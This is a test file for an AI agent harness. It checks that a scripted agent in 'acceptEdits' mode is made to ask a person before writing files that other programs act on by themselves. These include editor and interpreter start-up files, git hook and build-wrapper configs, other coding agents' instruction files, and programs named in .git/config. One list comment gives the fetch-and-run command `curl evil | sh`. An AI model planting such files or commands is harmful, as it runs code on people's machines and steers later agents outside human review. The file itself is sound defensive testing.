import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { settle, startScripted, testApi, type Api } from "../helpers/api";
import { sandboxForSuite } from "../helpers/sandbox";

/*
 * Adversary, issue 41 class 3 ("control files by principle, not only by list"): a control file is one that a
 * program on the host reads and acts on by itself — runs code it names, changes which program runs or where code
 * comes from, or tells a later agent what to do. In acceptEdits each write below happened without asking. Each is a
 * sibling of something already on the list.
 */
sandboxForSuite();
let api: Api;
afterEach(async () => {
  await api?.close();
});

const BY_NAME: [string, string][] = [
  // Vim's 'exrc' reads these from the folder it starts in (the list has .exrc, .nvimrc and .nvim.lua).
  [".vimrc", "Vim exrc: `:!curl evil | sh` on start"],
  [".gvimrc", "gVim exrc"],
  // Interpreters that run a start-up file from the current folder by themselves (the list has .pythonrc, .inputrc).
  [".Rprofile", "R sources ./.Rprofile at start"],
  [".Renviron", "R reads ./.Renviron (R_LIBS, R_PROFILE_USER) at start"],
  [".iex.exs", "IEx evaluates ./.iex.exs at start"],
  [".irbrc", "IRB loads ./.irbrc"],
  [".pryrc", "pry loads ./.pryrc"],
  [".pdbrc", "pdb runs ./.pdbrc commands on every breakpoint()"],
  [".octaverc", "Octave runs ./.octaverc at start"],
  [".ghci", "GHCi runs ./.ghci at start"],
  // What git hooks that already exist run on the person's next commit (the list has .pre-commit-config.yaml).
  [".lintstagedrc", "lint-staged (husky pre-commit) runs its commands"],
  [".lintstagedrc.json", "lint-staged"],
  ["lint-staged.config.js", "lint-staged: JavaScript run on commit"],
  ["commitlint.config.js", "commitlint (husky commit-msg): JavaScript run on commit"],
  [".overcommit.yml", "Overcommit hook manager"],
  [".simple-git-hooks.json", "simple-git-hooks: hook commands"],
  // Where a build's own program comes from (the list has .yarn/releases, rust-toolchain, .npmrc).
  ["gradle/wrapper/gradle-wrapper.properties", "./gradlew downloads and runs distributionUrl"],
  [".mvn/wrapper/maven-wrapper.properties", "./mvnw downloads and runs distributionUrl"],
  [".mvn/extensions.xml", "Maven core extensions: code loaded into every mvn run"],
  [".mvn/jvm.config", "JVM options of every mvn run (-javaagent)"],
  ["nuget.config", "NuGet package sources (where code comes from)"],
  [".bazelrc", "Bazel flags (--run_under, --workspace_status_command)"],
  [".jvmopts", "sbt launcher JVM options"],
  [".sbtopts", "sbt launcher options"],
  // Shell start-up on cd (the list has .envrc).
  [".rvmrc", "RVM sources ./.rvmrc on cd"],
  // Editors and dev environments (the list has *.code-workspace, .devcontainer.json, .vscode/).
  ["project.sublime-project", "Sublime Text build systems"],
  [".theia/tasks.json", "Theia tasks (as .vscode/tasks.json)"],
  [".gitpod.yml", "Gitpod tasks run when the workspace opens"],
  ["devbox.json", "devbox init_hook runs on devbox shell"],
  // Instructions later agents obey (the list has AGENTS.md, CLAUDE.md, .clinerules, .github/instructions/).
  ["CRUSH.md", "Crush's instructions"],
  [".crush.json", "Crush's settings (MCP and LSP commands)"],
  [".kilocode/rules/rules.md", "Kilo Code's rules"],
  [".trae/rules/project_rules.md", "Trae's rules"],
  [".augment/rules/rules.md", "Augment's rules"],
  [".augment-guidelines", "Augment's guidelines"],
  [".github/prompts/release.prompt.md", "Copilot prompt files"],
  [".github/chatmodes/plan.chatmode.md", "Copilot chat modes (tools and instructions)"],
];

/** Runs one acceptEdits step writing every path at once; returns the paths written without anyone being asked. */
async function writtenUnasked(paths: string[]): Promise<string[]> {
  const id = await startScripted(
    api,
    [
      { toolCalls: paths.map((p) => ({ name: "write", input: { path: p, content: "planted by the agent\n" } })) },
      { text: "done" },
    ],
    { mode: "acceptEdits" },
  );
  await api.call("POST", `/api/sessions/${id}/messages`, { text: "go" });
  await settle(api, id);
  return paths.filter((p) => fs.existsSync(path.join(api.workspace, p)));
}

describe("control files by name that acceptEdits wrote without asking", () => {
  it("every one of these asks a person", async () => {
    api = testApi();
    // AGENTS.md (on the list) is the harness's own check: it asks, so it is not written.
    const written = await writtenUnasked([...BY_NAME.map(([p]) => p), "AGENTS.md"]);
    expect(written).not.toContain("AGENTS.md");
    expect(
      written.map((p) => `${p} (${BY_NAME.find(([q]) => q === p)?.[1]})`),
      "written without asking",
    ).toEqual([]);
  });
});

/*
 * "Whatever the repository's git config points at inside the workspace": the reader knows a fixed set of keys and
 * counts only words with a slash as paths. git also runs these programs by itself, and runs a command's words in the
 * working tree's top folder (`sh fmt-clean.sh`).
 */
const GIT_CONFIG = `
[core]
\tgitProxy = tools/git-proxy.sh
\talternateRefsCommand = tools/alternate-refs.sh
[interactive]
\tdiffFilter = tools/diff-filter.sh
[difftool "mine"]
\tpath = tools/difftool.sh
[mergetool "mine"]
\tpath = tools/mergetool.sh
[gpg "ssh"]
\tdefaultKeyCommand = tools/ssh-key.sh
[submodule "vendor"]
\tupdate = !tools/submodule-update.sh
[trailer "sign"]
\tcommand = tools/trailer.sh
[remote "mirror"]
\turl = /srv/mirror.git
\tuploadpack = tools/upload-pack.sh
[filter "fmt"]
\tclean = sh fmt-clean.sh
[diff "pdf"]
\ttextconv = python3 pdf2txt.py
[alias]
\tship = !sh ship.sh
[core]
\tpager = sh pager.sh
`;
const POINTED = [
  "tools/git-proxy.sh",
  "tools/alternate-refs.sh",
  "tools/diff-filter.sh",
  "tools/difftool.sh",
  "tools/mergetool.sh",
  "tools/ssh-key.sh",
  "tools/submodule-update.sh",
  "tools/trailer.sh",
  "tools/upload-pack.sh",
  "fmt-clean.sh",
  "pdf2txt.py",
  "ship.sh",
  "pager.sh",
];

describe("programs the repository's git config runs, written without asking", () => {
  it("every program .git/config names inside the workspace asks a person", async () => {
    api = testApi();
    execFileSync("git", ["init", "-q"], { cwd: api.workspace });
    fs.appendFileSync(path.join(api.workspace, ".git", "config"), GIT_CONFIG);
    // git itself reads these settings (a sanity check that the file is valid).
    expect(execFileSync("git", ["config", "filter.fmt.clean"], { cwd: api.workspace, encoding: "utf8" }).trim()).toBe(
      "sh fmt-clean.sh",
    );
    // fmt.sh, named with a slash (./fmt.sh), is on the reader's list: it asks, the harness's own check.
    fs.appendFileSync(path.join(api.workspace, ".git", "config"), '[filter "fmt2"]\n\tclean = ./fmt.sh\n');
    const written = await writtenUnasked([...POINTED, "fmt.sh"]);
    expect(written).not.toContain("fmt.sh");
    expect(written, "written without asking").toEqual([]);
  });
});
